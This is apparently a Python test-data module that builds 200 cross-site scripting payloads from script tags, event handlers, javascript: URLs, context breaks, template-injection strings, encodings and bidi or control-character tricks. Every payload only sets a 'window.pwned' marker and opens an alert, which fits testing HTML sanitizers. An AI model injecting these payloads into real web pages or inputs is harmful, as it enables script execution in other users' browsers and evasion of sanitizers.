"""200 strings that want to be code: by element, handler, address, encoding, template and bidi trick."""

from __future__ import annotations

_RUN = "window.pwned=1;alert(1)"
_ELEMENTS = (
    "<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<scr<script>ipt>{0}</scr</script>ipt>", "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>", '<img src="x" onerror="{0}">', "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script>",
    "<body onload={0}>", "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe src=javascript:{0}>", "<a href=javascript:{0}>x</a>",
    "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<audio src onerror={0}>", "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>", "<marquee onstart={0}>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
    "<math><mtext></mtext><script>{0}</script></math>", "<style>@import 'javascript:{0}';</style>", "<link rel=import href=data:text/html,{0}>",
    "<base href=javascript:{0}//>", "<meta http-equiv=refresh content=0;url=javascript:{0}>", "<form action=javascript:{0}><button>x",
    "<template><script>{0}</script></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<!--><script>{0}</script>",
)  # fmt: skip
_BREAKS = ("{0}", "'>{0}", '">{0}', "</textarea>{0}", "</title>{0}", "--></script>{0}", "<*>{0}<*>")
_OTHERS = (
    "javascript:{0}", "{{{{constructor.constructor('{0}')()}}}}", "{{{{ ''.__class__.__mro__ }}}} {0}", "${{{0}}}", "#{{{0}}}", "{{% raw %}}{0}",
    "' onmouseover='{0}' autofocus='", '" onfocus="{0}" autofocus="', "`${{{0}}}`", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;", "%3Cscript%3E{0}%3C/script%3E", "\u202e<script>{0}</script>\u202c", "\x1b]8;;javascript:{0}\x07x\x1b]8;;\x07",
    "<script\x0c>{0}</script>", "\ufeff<svg onload={0}>", "\u2028<img src=x onerror={0}>", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
)  # fmt: skip


def _make() -> list[str]:
    found = [brk.replace("{0}", element.format(_RUN)) for brk in _BREAKS for element in _ELEMENTS]
    return [*(text.format(_RUN) for text in _OTHERS), *found][:200]


#: Each of them sets `window.pwned` and opens a dialog where it runs.
VECTORS = [text if number else f"<script>{_RUN}</script>" for number, text in enumerate(_make())]
